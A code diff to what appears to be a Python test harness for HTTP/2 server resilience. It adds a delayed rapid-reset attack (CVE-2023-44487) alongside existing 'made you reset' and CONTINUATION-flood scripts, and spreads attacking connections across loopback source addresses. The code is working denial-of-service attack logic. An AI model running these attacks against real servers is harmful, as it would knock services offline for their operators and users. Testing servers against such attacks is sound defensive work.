@@ -99,6 +99,15 @@ def _rapid_reset(streams: Streams) -> Iterator[Step]:
         yield frames
 
 
+def _rapid_reset_later(streams: Streams) -> Iterator[Step]:
+    """The resets come when the requests have been begun."""
+    while True:
+        opened = [_get(streams) for _ in range(BATCH)]
+        yield [head for _, head in opened]
+        yield 0.01
+        yield [rst_stream(stream) for stream, _ in opened]
+
+
 def _made_you_reset(streams: Streams) -> Iterator[Step]:
     """Each request is followed by a frame that is an error of its stream, so that the server has to reset it."""
     while True:
@@ -220,6 +229,7 @@ ONE_BYTE = settings((INITIAL_WINDOW_SIZE, 1))
 
 ATTACKS = (
     Attack("rapid reset", "CVE-2023-44487", _rapid_reset),
+    Attack("rapid reset, a moment later", "CVE-2023-44487", _rapid_reset_later),
     Attack("made you reset", "CVE-2025-8671", _made_you_reset),
     Attack("empty CONTINUATION frames", "CVE-2024-27316", _continuation(b""), acknowledges=False),
     Attack("CONTINUATION frames with fields", "CVE-2024-27316", _continuation(MANY_FIELDS), acknowledges=False),
@@ -252,11 +262,12 @@ ATTACKS = (
 
 
 class Attacker:
-    """One attacking connection."""
+    """One attacking connection, from the address `source`."""
 
-    def __init__(self, address: tuple[str, int], attack: Attack, outcome: Outcome) -> None:
+    def __init__(self, address: tuple[str, int], attack: Attack, outcome: Outcome, source: str) -> None:
         self.attack, self.outcome = attack, outcome
-        self.client = Http2Client(address, opening=attack.opening, receive_buffer=0 if attack.reads else 4096)
+        receive_buffer = 0 if attack.reads else 4096
+        self.client = Http2Client(address, opening=attack.opening, receive_buffer=receive_buffer, source=source)
         self.client.acknowledge = False
         self.client.sock.setblocking(False)
         self.steps = attack.script(itertools.count(1, 2))
@@ -316,15 +327,31 @@ class Attacker:
         self.client.close()
 
 
-def run_attack(address: tuple[str, int], attack: Attack, *, seconds: float, most_connections: int = 200) -> Outcome:
-    """Attack for `seconds`, with at most so many connections in all."""
+def loopback_addresses() -> Iterator[str]:
+    """Addresses that no other client of a test has, each another."""
+    for number in itertools.count(1):
+        yield f"127.{64 + (number >> 16) % 64}.{number >> 8 & 255}.{number & 255}"
+
+
+_EACH_ANOTHER = loopback_addresses()
+
+
+def run_attack(
+    address: tuple[str, int],
+    attack: Attack,
+    *,
+    seconds: float,
+    most_connections: int = 200,
+    sources: Iterator[str] = _EACH_ANOTHER,
+) -> Outcome:
+    """Attack for `seconds`, with at most so many connections in all, each from the next of `sources`."""
     outcome = Outcome()
     attackers: list[Attacker] = []
     deadline = time.monotonic() + seconds
     while (now := time.monotonic()) < deadline and (attackers or outcome.opened < most_connections):
         while len(attackers) < attack.connections and outcome.opened < most_connections:
             try:
-                attackers.append(Attacker(address, attack, outcome))
+                attackers.append(Attacker(address, attack, outcome, next(sources)))
             except OSError as error:
                 outcome.endings[f"not accepted: {type(error).__name__}"] += 1
                 outcome.opened += 1
